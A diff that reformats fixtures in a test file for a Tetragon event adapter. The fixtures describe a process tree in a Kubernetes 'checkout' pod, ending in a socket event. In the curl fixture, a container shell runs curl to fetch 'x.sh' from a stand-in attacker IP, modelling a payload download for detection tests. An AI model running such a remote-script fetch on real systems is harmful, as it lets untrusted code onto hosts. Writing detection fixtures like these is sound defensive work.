@@ -162,11 +162,8 @@ const POD = {
   namespace: "shop",
   name: "checkout-7d9f8b6c5-x2x4q",
   container: {
-    id: "containerd://4c1f0e2a",
-    name: "checkout",
+    id: "containerd://4c1f0e2a", name: "checkout", start_time: "2025-03-01T10:00:00Z", pid: 1,
     image: { id: "ghcr.io/acme/checkout@sha256:abc", name: "ghcr.io/acme/checkout:1.4.2" },
-    start_time: "2025-03-01T10:00:00Z",
-    pid: 1,
   },
   pod_labels: { app: "checkout" },
   workload: "checkout",
@@ -174,19 +171,9 @@ const POD = {
 };
 
 const CURL = {
-  exec_id: "ZXhlYy1jdXJs",
-  pid: 4242,
-  uid: 1000,
-  cwd: "/app",
-  binary: "/usr/bin/curl",
-  arguments: "-s http://198.51.100.7:8080/x.sh",
-  flags: "execve clone",
-  start_time: "2025-03-01T10:05:00.100Z",
-  auid: 4294967295,
-  pod: POD,
-  docker: "4c1f0e2a",
-  parent_exec_id: "ZXhlYy1zaA==",
-  in_init_tree: false,
+  exec_id: "ZXhlYy1jdXJs", pid: 4242, uid: 1000, cwd: "/app", binary: "/usr/bin/curl",
+  arguments: "-s http://198.51.100.7:8080/x.sh", flags: "execve clone", start_time: "2025-03-01T10:05:00.100Z",
+  auid: 4294967295, pod: POD, docker: "4c1f0e2a", parent_exec_id: "ZXhlYy1zaA==", in_init_tree: false,
 };
 const SH = { exec_id: "ZXhlYy1zaA==", pid: 4200, uid: 1000, binary: "/bin/sh", arguments: "-c curl", parent_exec_id: "cnVuYw==" };
 const RUNC = { exec_id: "cnVuYw==", pid: 4100, uid: 0, binary: "/usr/bin/runc", parent_exec_id: "c2hpbQ==" };
@@ -238,14 +225,8 @@ describe("adaptTetragon — hand-written events", () => {
         args: [
           {
             sock_arg: {
-              family: "AF_INET",
-              type: "SOCK_STREAM",
-              protocol: "IPPROTO_TCP",
-              saddr: "10.0.3.17",
-              daddr: "198.51.100.7",
-              sport: 51234,
-              dport: 8080,
-              state: "TCP_SYN_SENT",
+              family: "AF_INET", type: "SOCK_STREAM", protocol: "IPPROTO_TCP", state: "TCP_SYN_SENT",
+              saddr: "10.0.3.17", daddr: "198.51.100.7", sport: 51234, dport: 8080,
             },
           },
         ],
